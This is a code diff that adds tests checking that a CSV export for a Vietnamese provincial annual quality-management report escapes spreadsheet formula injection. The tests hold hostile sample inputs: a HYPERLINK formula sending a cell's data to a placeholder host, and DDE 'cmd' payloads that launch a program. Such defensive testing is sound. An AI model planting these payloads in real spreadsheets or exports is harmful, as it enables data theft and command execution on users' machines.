@@ -1,4 +1,5 @@
 import { annualQmsReportSummary, type AnnualQmsReportData } from './annual-qms-report-document';
+import { annualQmsReportCsv, csvText } from './annual-qms-report.spreadsheet';
 
 const year: AnnualQmsReportData = {
   organisation: 'Ủy ban nhân dân tỉnh Kon Tum',
@@ -38,5 +39,29 @@ describe("the yearly report's line on the internal audit", () => {
       'Đã thực hiện từ 07/10/2024 đến 18/10/2024, kết thúc ngày 25/10/2024; 2 nội dung được đánh giá, 1 điểm không phù hợp',
     );
     expect(auditLine(null)).toBe('Chưa thực hiện');
+  });
+});
+
+describe('the yearly report as CSV, opened in a spreadsheet', () => {
+  const fields = (data: AnnualQmsReportData) =>
+    [
+      ...annualQmsReportCsv(data)
+        .subarray(3)
+        .toString('utf8')
+        .matchAll(/"((?:[^"]|"")*)"(?:,|\r\n)/g),
+    ].map((m) => m[1].replace(/""/g, '"'));
+
+  it('keeps a typed text that begins like a formula a text, with an apostrophe (it would run in Excel)', () => {
+    const typed = '=HYPERLINK("http://example.invalid/?d="&A1,"Xem")';
+    expect(fields({ ...year, scope: typed })).toContain(`'${typed}`);
+    expect(fields({ ...year, scope: typed })).not.toContain(typed);
+    for (const start of ['+', '-', '@', '\t', '\r'])
+      expect(csvText(`${start}cmd|' /C calc'!A0`)).toBe(`'${start}cmd|' /C calc'!A0`);
+  });
+
+  it('leaves plain numbers and ordinary texts as they are', () => {
+    for (const plain of ['-2', '+1,5', '-12.5%', '3', 'Văn phòng UBND tỉnh', 'a=b'])
+      expect(csvText(plain)).toBe(plain);
+    expect(fields(year)).toContain('Văn phòng UBND tỉnh');
   });
 });
